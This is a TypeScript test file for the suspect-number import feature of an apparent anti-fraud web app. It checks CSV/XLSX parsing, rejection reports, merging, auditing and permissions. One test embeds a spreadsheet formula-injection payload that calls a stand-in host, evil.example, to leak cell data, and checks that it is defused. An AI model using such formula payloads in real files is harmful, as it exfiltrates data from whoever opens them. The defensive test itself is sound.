import { describe, expect, test } from "bun:test";
import { copyFileSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { transaction } from "../../src/db";
import { mergeSighting } from "../../src/domain/suspects";
import { startImport, whenSettled } from "../../src/imports/engine";
import { importSource } from "../../src/suspects/import";
import { createSuspect, setSuspectStatus } from "../../src/suspects/service";
import { signIn, sqlAll, sqlOne, sqlRun, type TestPlatform, testPlatform } from "../helpers";

const FIXTURES = join(import.meta.dir, "../fixtures");
const fixture = (name: string) => Bun.file(join(FIXTURES, name));

type Session = Awaited<ReturnType<typeof signIn>>;

async function upload(
  s: Session,
  name: string,
  bytes?: Uint8Array,
  kind = "suspects",
  init: { htmx?: boolean; headers?: Record<string, string> } = {},
) {
  const fd = new FormData();
  fd.append("file", new File([(bytes ?? (await fixture(name).bytes())) as Uint8Array<ArrayBuffer>], name));
  return s.request(`/imports/${kind}`, { method: "POST", body: fd, ...init });
}

/** Uploads, follows the redirect to the report, and waits for the background import to settle. */
async function imported(p: TestPlatform, s: Session, name: string, bytes?: Uint8Array) {
  const res = await upload(s, name, bytes);
  expect(res.status).toBe(303);
  const location = res.headers.get("Location")!;
  const id = Number(/\/imports\/(\d+)/.exec(location)![1]);
  await whenSettled(p.deps, id);
  const report = (await sqlOne(p.deps.db, "select * from imports where id = ?", id)) as Record<string, number | string>;
  return { id, location, report };
}

const q = async <T>(p: TestPlatform, sql: string, ...args: (string | number)[]) =>
  (await sqlAll(p.deps.db, sql, ...args)) as T[];
const suspect = async (p: TestPlatform, value: string) =>
  (await sqlOne(p.deps.db, "select * from suspects where value = ?", value)) as Record<string, unknown> | null;

describe("suspects import: the report", () => {
  test("every data row is imported, merged or rejected, and the counts add up", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { report } = await imported(p, s, "suspects-bad-rows.csv");
    expect(report).toMatchObject({ status: "done", total_rows: 8, imported: 4, merged: 1, rejected: 3 });
    expect((await q<{ n: number }>(p, "select count(*) as n from suspects"))[0]!.n).toBe(4);
  });

  test("each rejected row keeps its line number as seen in the file, its raw text and the reason", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { id } = await imported(p, s, "suspects-bad-rows.csv");
    const rows = await q<{ line: number; raw: string; reason: string }>(
      p,
      "select line, raw, reason from import_rejections where import_id = ? order by line",
      id,
    );
    // line 6–7 is one row (a quoted note with a line break); line 9 is blank
    expect(rows.map((r) => r.line)).toEqual([5, 8, 10]);
    expect(rows[0]).toMatchObject({ raw: "abc123,,,", reason: "not a phone number or bank account: contains letters" });
    expect(rows[1]).toMatchObject({ raw: "12345,,,", reason: "not a phone number or bank account: 5 digits" });
    expect(rows[2]).toMatchObject({
      raw: "0755 8888 8888,phone,urgent,",
      reason: expect.stringContaining('unknown risk level "urgent"'),
    });
  });

  test("the report page shows the counts, how they add up, and the rejected rows", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { location } = await imported(p, s, "suspects-bad-rows.csv");
    const html = await (await s.request(location)).text();
    expect(html).toContain('data-status="done"');
    expect(html).toContain("新增 4 + 合并 1 + 拒绝 3 = 数据行 8");
    expect(html).toContain("abc123,,,");
    expect(html).toContain("/rejected.csv");
  });

  test("a value repeated within the file is merged: one suspect, two sightings, both notes", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { id } = await imported(p, s, "suspects-bad-rows.csv");
    expect(await suspect(p, "+8613800138000")).toMatchObject({
      sightings: 2,
      risk_level: "high",
      note: "群众举报\n第一次\n跨行备注",
    });
    expect(
      await q(
        p,
        "select source from suspect_sources where suspect_id = (select id from suspects where value = '+8613800138000')",
      ),
    ).toEqual([{ source: importSource(id) }]);
  });

  test("normalised values with inferred institutions are stored", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    await imported(p, s, "suspects-bad-rows.csv");
    const rows = await q<{ kind: string; value: string; code: string | null; risk_level: string }>(
      p,
      "select s.kind, s.value, i.code, s.risk_level from suspects s left join institutions i on i.id = s.institution_id order by s.id",
    );
    expect(rows).toEqual([
      { kind: "phone", value: "+8613800138000", code: "CMCC", risk_level: "high" },
      { kind: "phone", value: "+8613900139000", code: "CMCC", risk_level: "medium" },
      { kind: "bank_account", value: "6222021234567890128", code: "ICBC", risk_level: "low" },
      { kind: "bank_account", value: "6228480402564890018", code: "ABC", risk_level: "medium" },
    ]);
  });

  test("rows split over many batches are each counted once, with their own line numbers", async () => {
    const p = await testPlatform();
    const dir = mkdtempSync(join(tmpdir(), "fanzha-import-test-"));
    const path = join(dir, "x.csv");
    copyFileSync(join(FIXTURES, "suspects-bad-rows.csv"), path);
    const who = { actor: null, ip: "test", at: p.clock.now() };
    const { id } = await startImport(
      p.deps,
      who,
      { kind: "suspects", filename: "x.csv", path, sha256: "batch-test" },
      { batchRows: 2 },
    );
    await whenSettled(p.deps, id);
    expect(await q(p, "select total_rows, imported, merged, rejected from imports")).toEqual([
      { total_rows: 8, imported: 4, merged: 1, rejected: 3 },
    ]);
    expect((await q<{ line: number }>(p, "select line from import_rejections order by id")).map((r) => r.line)).toEqual(
      [5, 8, 10],
    );
  });
});

describe("suspects import: files", () => {
  test("an XLSX file is read from its first worksheet; a card number stored as an Excel number is rejected", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { id, report } = await imported(p, s, "suspects.xlsx");
    expect(report).toMatchObject({ status: "done", total_rows: 5, imported: 3, merged: 0, rejected: 2 });
    expect(await suspect(p, "+8613800138000")).toMatchObject({ risk_level: "high" });
    expect(await suspect(p, "6222021234567890128")).toMatchObject({ kind: "bank_account", risk_level: "medium" });
    const rejected = await q<{ line: number; reason: string }>(
      p,
      "select line, reason from import_rejections where import_id = ? order by line",
      id,
    );
    expect(rejected.map((r) => r.line)).toEqual([4, 5]);
    expect(rejected[1]!.reason).toContain("stored as an Excel number");
  });

  test("a GB18030 (GBK) CSV saved by Excel on Chinese Windows is read as Chinese", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { report } = await imported(p, s, "suspects-gb18030.csv");
    expect(report).toMatchObject({
      total_rows: 8,
      imported: 4,
      merged: 1,
      rejected: 3,
      header: "号码,类型,风险等级,备注",
    });
    expect(await suspect(p, "+8613800138000")).toMatchObject({ note: "群众举报\n第一次\n跨行备注" });
  });

  test("a file with no recognisable header is refused with a clear message, and nothing is recorded", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const res = await upload(s, "no-header.csv");
    expect(res.status).toBe(422);
    const html = await res.text();
    expect(html).toContain("没有可识别的表头：第一行是数据（13800138000）");
    expect(html).toContain("号码");
    expect(await q(p, "select * from imports")).toEqual([]);
    expect(await q(p, "select * from suspects")).toEqual([]);
  });

  test("through htmx the refusal comes back as the form with the message", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const res = await upload(s, "no-header.csv", undefined, "suspects", { htmx: true });
    expect(res.status).toBe(200);
    const html = await res.text();
    expect(html).toStartWith('<form id="import-form"');
    expect(html).toContain("没有可识别的表头");
  });

  test("an old binary .xls file is refused, asking for XLSX or CSV", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const res = await upload(s, "old.xls", new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]));
    expect(res.status).toBe(422);
    expect(await res.text()).toContain("请另存为 .xlsx 或 CSV");
  });

  test("an empty file is refused", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const res = await upload(s, "empty.csv", new Uint8Array());
    expect(res.status).toBe(422);
    expect(await res.text()).toContain("文件是空的");
  });

  test("htmx uploads are sent on to the report with HX-Redirect", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const res = await upload(s, "suspects-bad-rows.csv", undefined, "suspects", { htmx: true });
    expect(res.headers.get("HX-Redirect")).toBe("/imports/1");
    await whenSettled(p.deps, 1);
  });
});

describe("suspects import: the same file again", () => {
  test("re-importing the same file changes nothing and answers with the earlier report", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const first = await imported(p, s, "suspects-bad-rows.csv");
    const before = await q(p, "select * from suspects order by id");
    const again = await upload(s, "suspects-bad-rows.csv");
    expect(again.status).toBe(303);
    expect(again.headers.get("Location")).toBe(`/imports/${first.id}?repeated=1`);
    expect(await q(p, "select * from suspects order by id")).toEqual(before);
    expect(await q(p, "select count(*) as n from imports")).toEqual([{ n: 1 }]);
    const page = await (await s.request(again.headers.get("Location")!)).text();
    expect(page).toContain("之前已经导入过");
  });

  test("the same file under another name is still the same file", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const first = await imported(p, s, "suspects-bad-rows.csv");
    const again = await upload(s, "renamed.csv", await fixture("suspects-bad-rows.csv").bytes());
    expect(again.headers.get("Location")).toBe(`/imports/${first.id}?repeated=1`);
  });

  test("an interrupted import resumes from the first row it had not recorded", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const bytes = await fixture("suspects-bad-rows.csv").bytes();
    const sha = new Bun.CryptoHasher("sha256").update(bytes).digest("hex");
    // as a crash would leave it: the first three data rows recorded, then nothing
    await sqlRun(
      p.deps.db,
      "insert into imports (kind, filename, file_hash, status, total_rows, imported) values ('suspects', 'x.csv', ?, 'running', 3, 3)",
      sha,
    );
    const res = await upload(s, "x.csv", bytes);
    expect(res.headers.get("Location")).toBe("/imports/1");
    await whenSettled(p.deps, 1);
    // rows 4–8 recorded now; rows 1–3 not again (here: not at all, since the "crash" was simulated,
    // so line 6's repeat of row 1 is new)
    expect(await q(p, "select status, total_rows, imported, merged, rejected from imports")).toEqual([
      { status: "done", total_rows: 8, imported: 5, merged: 0, rejected: 3 },
    ]);
    expect(await suspect(p, "+8613900139000")).toBeNull();
    expect(await suspect(p, "+8613800138000")).toMatchObject({ sightings: 1 });
  });
});

describe("suspects import: interrupted imports", () => {
  test("an import left running by a server that stopped is shown as interrupted, with how to resume", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    await sqlRun(
      p.deps.db,
      "insert into imports (kind, filename, file_hash, status, total_rows, imported) values ('suspects', 'x.csv', 'abc', 'running', 3, 3)",
    );
    const html = await (await s.request("/imports/1")).text();
    expect(html).toContain('data-status="failed"');
    expect(html).toContain("重新上传同一个文件，会从中断处继续");
  });
});

describe("suspects import: merging", () => {
  test("an import merges into a known suspect exactly as mergeSighting says", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const who = { actor: null, ip: "test", at: p.clock.now() - 86_400_000 };
    const { suspect: known } = await createSuspect(p.deps.db, who, {
      value: "13800138000",
      riskLevel: "low",
      note: "first report",
      source: "manual",
    });
    await transaction(
      p.deps.db,
      async (tx) =>
        await setSuspectStatus(tx, who, { suspectId: known.id, status: "cleared", reason: "owner verified" }),
    );
    const before = (await sqlOne(p.deps.db, "select * from suspects where id = ?", known.id)) as Record<string, never>;
    const csv = new TextEncoder().encode("phone,risk,note\n+86 138 0013 8000,高,second report\n");
    await imported(p, s, "merge.csv", csv);
    const expected = mergeSighting(
      {
        riskLevel: before.risk_level,
        status: before.status,
        statusReason: before.status_reason,
        firstSeenAt: before.first_seen_at,
        lastSeenAt: before.last_seen_at,
        sightings: before.sightings,
        institutionId: before.institution_id,
        institutionInferred: !!before.institution_inferred,
        note: before.note,
      },
      { at: p.clock.now(), riskLevel: "high", inferredInstitutionId: before.institution_id, note: "second report" },
    );
    expect(await suspect(p, "+8613800138000")).toMatchObject({
      risk_level: expected.riskLevel,
      status: expected.status,
      status_reason: expected.statusReason,
      first_seen_at: expected.firstSeenAt,
      last_seen_at: expected.lastSeenAt,
      sightings: expected.sightings,
      institution_id: expected.institutionId,
      institution_inferred: expected.institutionInferred ? 1 : 0,
      note: expected.note,
    });
    expect(expected).toMatchObject({
      riskLevel: "high",
      status: "active",
      sightings: 2,
      note: "first report\nsecond report",
    });
  });
});

describe("suspects import: downloads, progress, audit", () => {
  test("an English reader gets the rejected rows' reasons in English", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { id } = await imported(p, s, "suspects-bad-rows.csv");
    const res = await p.app.request(`/imports/${id}/rejected.csv`, { headers: { Cookie: `${s.cookie}; fz_lang=en` } });
    const lines = (await res.text()).split("\r\n");
    expect(lines[1]).toBe("5,not a phone number or bank account: contains letters,abc123,,,");
    expect(lines[3]).toBe(
      '10,"unknown risk level ""urgent"": use high/medium/low or 高/中/低",0755 8888 8888,phone,urgent,',
    );
  });

  test("the rejected rows download as CSV: line, reason, and the row under the file's own header", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { id } = await imported(p, s, "suspects-bad-rows.csv");
    const res = await s.request(`/imports/${id}/rejected.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toStartWith("text/csv");
    expect(res.headers.get("Content-Disposition")).toContain("attachment");
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.split("\r\n")).toEqual([
      "行号,原因,号码,类型,风险等级,备注",
      "5,不是电话号码或银行账号：含有字母,abc123,,,",
      "8,不是电话号码或银行账号：5 位数字,12345,,,",
      "10,无法识别的风险等级“urgent”：请填 高/中/低（high/medium/low）,0755 8888 8888,phone,urgent,",
      "",
    ]);
  });

  test("a rejected row holding a spreadsheet formula comes back defused in rejected.csv", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const csv =
      '号码,类型,风险等级,备注\r\n=HYPERLINK("http://evil.example/?x="&A1;"点此"),,,@SUM(1+1)\r\n13800138000,phone,high,-2+3\r\n';
    const res = await upload(s, "formulas.csv", new TextEncoder().encode(csv));
    const id = Number(/\/imports\/(\d+)/.exec(res.headers.get("Location")!)![1]);
    await whenSettled(p.deps, id);
    const text = await (await s.request(`/imports/${id}/rejected.csv`)).text();
    const row = text.split("\r\n")[1]!;
    expect(row).toStartWith("2,");
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""点此"")"`);
    expect(row).toEndWith(",'@SUM(1+1)");
    expect(text).not.toMatch(/(^|,)"?[=@]/m);
  });

  test("progress is published on the event bus while the rows are recorded, then the end", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const seen: { event: string; data: string }[] = [];
    p.deps.events.subscribe("import:1", (e) => seen.push(e));
    await imported(p, s, "suspects-bad-rows.csv");
    expect(seen.map((e) => e.event)).toEqual(["progress", "done"]);
    expect(JSON.parse(seen[1]!.data)).toMatchObject({
      status: "done",
      totalRows: 8,
      imported: 4,
      merged: 1,
      rejected: 3,
    });
  });

  test("the live stream of a finished import sends the result and ends", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { id } = await imported(p, s, "suspects-bad-rows.csv");
    const res = await s.request(`/imports/${id}/events`);
    expect(res.headers.get("Content-Type")).toStartWith("text/event-stream");
    const body = await res.text();
    expect(body).toStartWith("event: ready\n");
    expect(body).toContain("event: done\n");
    expect(body).toContain("新增 4 + 合并 1 + 拒绝 3 = 数据行 8");
  });

  test("the import is audited: who, which file, and the counts", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { id } = await imported(p, s, "suspects-bad-rows.csv");
    const rows = await q<{ actor: string; action: string; entity_id: string; detail: string }>(
      p,
      "select actor, action, entity_id, detail from audit_log where entity = 'import' order by id",
    );
    expect(rows.map((r) => [r.actor, r.action, r.entity_id])).toEqual([
      [s.username, "create", String(id)],
      [s.username, "import", String(id)],
    ]);
    expect(JSON.parse(rows[1]!.detail)).toMatchObject({
      filename: "suspects-bad-rows.csv",
      totalRows: 8,
      imported: 4,
      merged: 1,
      rejected: 3,
    });
  });

  test("downloading the rejected rows is audited as an export", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const { id } = await imported(p, s, "suspects-bad-rows.csv");
    await (await s.request(`/imports/${id}/rejected.csv`)).text();
    expect(await q(p, "select action from audit_log where entity = 'import' and action = 'export'")).toEqual([
      { action: "export" },
    ]);
  });
});

describe("suspects import: who may", () => {
  test("publicity may not import suspects", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "publicity");
    const res = await upload(s, "suspects-bad-rows.csv");
    expect(res.status).toBe(403);
    expect(await q(p, "select * from imports")).toEqual([]);
  });

  test("publicity may not open the import screen", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "publicity");
    expect((await s.request("/imports")).status).toBe(403);
  });

  test("a bank's staff may not read an import's report or its rejected rows", async () => {
    const p = await testPlatform();
    const agent = await signIn(p, "agent");
    const { id } = await imported(p, agent, "suspects-bad-rows.csv");
    const bank = await signIn(p, "bank", "ICBC");
    expect((await bank.request(`/imports/${id}`)).status).toBe(403);
    expect((await bank.request(`/imports/${id}/rejected.csv`)).status).toBe(403);
  });

  test("an upload without the session's CSRF token is refused", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    const res = await upload(s, "suspects-bad-rows.csv", undefined, "suspects", {
      headers: { "X-CSRF-Token": "forged" },
    });
    expect(res.status).toBe(403);
    expect(await q(p, "select * from imports")).toEqual([]);
  });

  test("an unknown kind of import is a 404", async () => {
    const p = await testPlatform();
    const s = await signIn(p, "agent");
    expect((await upload(s, "suspects-bad-rows.csv", undefined, "weather")).status).toBe(404);
  });
});
